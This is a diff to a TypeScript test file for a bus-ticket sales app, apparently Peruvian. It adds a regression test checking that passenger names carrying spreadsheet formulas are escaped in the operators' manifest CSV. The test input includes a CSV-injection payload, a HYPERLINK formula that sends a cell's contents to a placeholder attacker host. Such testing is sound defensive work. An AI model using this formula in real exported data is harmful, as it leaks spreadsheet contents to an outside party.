@@ -4,7 +4,8 @@ import { parseOperatorTokens } from '../operators/operators';
 import { decimalOf } from '../payments/signing';
 import { reserva } from '../sales/sales.tables';
 import { TEST_SECRET } from '../test/app';
-import { BUYER, findTrip, heldPurchase, notifySafetyPay, post, safetyPayNotice, setupSandboxApp, startSafetyPay } from '../test/purchase';
+import type { Passenger } from '@rumbo/shared/schemas';
+import { ADULT, BUYER, findTrip, heldPurchase, notifySafetyPay, post, safetyPayNotice, setupSandboxApp, startSafetyPay } from '../test/purchase';
 import { voucherLink } from './links';
 import { voucherQrText } from './pdf';
 import { validateUbl } from './schema';
@@ -18,9 +19,9 @@ const clock = Date.now();
 const now = () => new Date(clock);
 const api = setupSandboxApp(now, { operators: parseOperatorTokens(`ops-lima=${TOKEN}`) });
 
-async function paidPurchase(days = 9) {
+async function paidPurchase(days = 9, passengers: Passenger[] = []) {
   const trip = await findTrip(api.app, 'LIM', 'ICA', days);
-  const { clave } = await heldPurchase(api.app, [trip], 1);
+  const { clave } = await heldPurchase(api.app, [trip], 1, passengers);
   const res = await post(api.app, '/rest/venta/reserva', { clave_bloqueo: clave, comprador: BUYER, terminos: true });
   const { codigo, total_centimos } = res.json().data;
   const referencia = await startSafetyPay(api.app, api.db, codigo, clave);
@@ -123,6 +124,19 @@ describe("the operators' view of the vouchers", () => {
     expect(lines.some((line) => line.includes(`B001-${voucher!.correlativo},${(voucher!.total_centimos / 100).toFixed(2)},,`))).toBe(true);
     const pdf = await api.app.inject({ url: `/rest/operador/viajes/${trip.cviaje}/manifiesto.pdf`, headers: auth });
     expect(pdf.rawPayload.subarray(0, 5).toString()).toBe('%PDF-');
+  });
+
+  it('issue 45 item 3: a passenger named with a spreadsheet formula is plain text in the manifest CSV', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Ver")';
+    const { trip } = await paidPurchase(11, [{ ...ADULT, numero: '41234567', nombres: formula, paterno: '@SUMA(1', materno: '+1' }]);
+    const csv = await api.app.inject({ url: `/rest/operador/viajes/${trip.cviaje}/manifiesto.csv`, headers: { authorization: `Bearer ${TOKEN}` } });
+    expect(csv.statusCode).toBe(200);
+    const line = csv.body.split('\r\n').find((l) => l.includes('41234567'))!;
+    // Every cell of the line, unquoted as a spreadsheet reads it: none may start a formula.
+    const cells = [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)].map((m) => m[1]!.replace(/^"|"$/g, '').replace(/""/g, '"'));
+    expect(cells).toContain(`'${formula}`);
+    expect(cells).toContain("'@SUMA(1 +1");
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
   });
 
   it('lists a voucher SUNAT refused, with its code, to an operator only', async () => {
